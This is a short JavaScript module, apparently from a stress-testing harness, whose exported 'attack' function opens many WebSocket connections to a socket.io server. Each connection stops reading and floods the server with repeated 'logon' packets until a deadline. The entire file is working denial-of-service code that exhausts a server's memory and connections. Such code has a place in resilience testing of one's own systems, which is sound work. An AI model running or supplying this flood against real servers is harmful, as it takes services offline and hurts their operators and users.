// WebSockets that read nothing of what they are sent: states, since they log on to a match again and again, or the answers to small packets.
import { drop, lanes, openWebSocket, pump, text } from './wire.mjs';

export async function attack({ ports, until, code = 'NOBODY', packet, connections = 60 }) {
  const logon = `42${JSON.stringify(['logon', JSON.stringify({ groupCode: code })])}`;
  const many = Buffer.concat(Array(1_000).fill(text(packet ?? logon)));
  const said = { opened: 0, bytes: 0 };
  await lanes(connections, until, async () => {
    const socket = await openWebSocket(ports.output, '/socket.io/?EIO=4&transport=websocket', { first: ['40'] });
    if (!socket) return false;
    ++said.opened;
    socket.pause();
    said.bytes += await pump(socket, many, until);
    drop(socket);
  });
  return said;
}
